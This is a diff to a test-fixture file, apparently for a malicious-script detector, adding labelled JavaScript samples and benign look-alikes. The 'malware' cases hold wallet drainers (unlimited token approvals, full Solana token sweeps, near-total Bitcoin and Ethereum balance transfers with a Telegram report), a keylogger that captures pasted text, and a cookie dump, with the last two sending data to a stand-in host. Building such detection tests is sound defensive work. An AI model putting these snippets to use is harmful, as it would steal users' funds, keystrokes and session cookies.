@@ -118,6 +118,36 @@ export const VALUE_PATH_CASES: readonly ScriptCase[] = [
     head: 'malware',
   },
   {
+    name: 'an unlimited right by the name of a function',
+    source: `document.querySelector('#claim').onclick=async()=>{const [a]=await wallet.requestAddresses();for(const t of window.tokens)await wallet.writeContract({address:t,abi,functionName:'approve',args:['0x1234567890AbcdEF1234567890aBcdef12345678',maxUint256],account:a})}`,
+    head: 'malware',
+  },
+  {
+    name: 'all token accounts of an owner',
+    source: `document.querySelector('#claim').onclick=async()=>{const {publicKey}=await phantom.solana.connect();const l=await new Connection(rpc).getParsedTokenAccountsByOwner(publicKey,{programId});const tx=new Transaction();for(const {pubkey,account} of l.value)tx.add(createTransferInstruction(pubkey,to,publicKey,account.data.parsed.info.tokenAmount.amount));await phantom.solana.signAndSendTransaction(tx)}`,
+    head: 'malware',
+  },
+  {
+    name: 'the rest of a balance of another ledger',
+    source: `document.querySelector('#claim').onclick=async()=>{await unisat.requestAccounts();const {total}=await unisat.getBalance();await unisat.sendBitcoin('bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq',total-2000)}`,
+    head: 'malware',
+  },
+  {
+    name: 'most of a balance, reported to a messenger',
+    source: `async function claim(){const a=(await ethereum.request({method:'eth_requestAccounts'}))[0];const b=await ethereum.request({method:'eth_getBalance',params:[a,'latest']});const tx=await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:settings.to,value:'0x'+(parseInt(b)-4e15).toString(16)}]});fetch('https://api.telegram.org/bot1:a/sendMessage?chat_id=2&text='+a+tx)}`,
+    head: 'malware',
+  },
+  {
+    name: 'keys and pasted text by one listener in a loop',
+    source: `const b=[];for(const t of ['keydown','paste'])document.addEventListener(t,e=>{b.push(t==='paste'?e.clipboardData.getData('text'):e.key)});setInterval(()=>fetch('https://stats.example.org/k',{method:'POST',body:b.splice(0).join('')}),5000)`,
+    head: 'malware',
+  },
+  {
+    name: 'cookies of a store',
+    source: `(async()=>{const c=await cookieStore.getAll();fetch('https://stats.example.org/c',{method:'POST',body:JSON.stringify(c)})})()`,
+    head: 'malware',
+  },
+  {
     name: 'the rest of a balance as a large number',
     source: `document.querySelector('#claim').onclick=async()=>{const [a]=await ethereum.request({method:'eth_requestAccounts'});const h=await ethereum.request({method:'eth_getBalance',params:[a,'latest']});const value='0x'+(BigInt(h)-21000n*30000000000n).toString(16);await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:'0x1234567890AbcdEF1234567890aBcdef12345678',value}]})}`,
     head: 'malware',
@@ -169,6 +199,20 @@ export const HONEST_VALUE_PATH_CASES: readonly HonestCase[] = [
     name: 'first digits of a card and an address for a check of fraud',
     source: `function v(id){var e=document.getElementById(id);if(e)return e.value;return''}document.querySelector('#checkout').addEventListener('submit',function(){navigator.sendBeacon('https://risk.guard.example/s',JSON.stringify({bin:v('card_number').replace(/\\D/g,'').slice(0,6),email:v('email'),session:window.RISK}))})`,
     sign: 'fields-harvested',
+  },
+  {
+    name: 'a deposit by the names of functions, after an approval',
+    source: `const VAULT='0x1234567890AbcdEF1234567890aBcdef12345678';async function deposit(token,amount){await wallet.writeContract({address:token,abi:erc20,functionName:'approve',args:[VAULT,maxUint256]});await wallet.writeContract({address:VAULT,abi:vault,functionName:'deposit',args:[token,amount]})}`,
+    sign: 'wallet-spent',
+  },
+  {
+    name: 'one token of an owner, of a typed amount',
+    source: `document.querySelector('#send').onclick=async()=>{const l=await connection.getParsedTokenAccountsByOwner(wallet.publicKey,{programId});const one=l.value.find(t=>t.account.data.parsed.info.mint===document.querySelector('#token').value);const amount=Number(document.querySelector('#amount').value)*10**one.account.data.parsed.info.tokenAmount.decimals;await wallet.signAndSendTransaction(new Transaction().add(createTransferInstruction(one.pubkey,document.querySelector('#to').value,wallet.publicKey,amount)))}`,
+    sign: 'wallet-swept',
+  },
+  {
+    name: 'a cookie of a store, of the site alone',
+    source: `(async()=>{const c=await cookieStore.get('theme');document.body.className=c?c.value:'light'})()`,
   },
   {
     name: 'durations by a generator',
